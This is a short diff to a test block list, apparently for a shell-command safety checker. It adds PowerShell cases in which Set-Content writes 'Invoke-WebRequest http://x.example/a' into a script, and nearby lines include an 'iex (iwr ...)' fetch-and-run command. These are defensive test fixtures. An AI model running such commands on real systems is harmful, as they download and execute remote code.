@@ -53,6 +53,9 @@ BLOCKED = [
     ("powershell", "'iex (iwr http://x.example/a)' | Tee-Object -FilePath run.ps1", "network"),
     ("powershell", "Set-Content run.ps1 -Value 'Invoke-WebRequest http://x.example/a'", "network"),
     ("powershell", "Set-Content -Value:'Invoke-WebRequest http://x.example/a' -Path run.ps1", "network"),
+    # a positional word is the value once the path is bound by name, or after a switch's prefix
+    ("powershell", "Set-Content -Path run.ps1 'Invoke-WebRequest http://x.example/a'", "network"),
+    ("powershell", "Set-Content run.ps1 -Fo 'Invoke-WebRequest http://x.example/a'", "network"),
     ("powershell", "Set-Content run.ps1 -Encoding utf8 'Invoke-WebRequest http://x.example/a'", "network"),
     (
         "powershell",
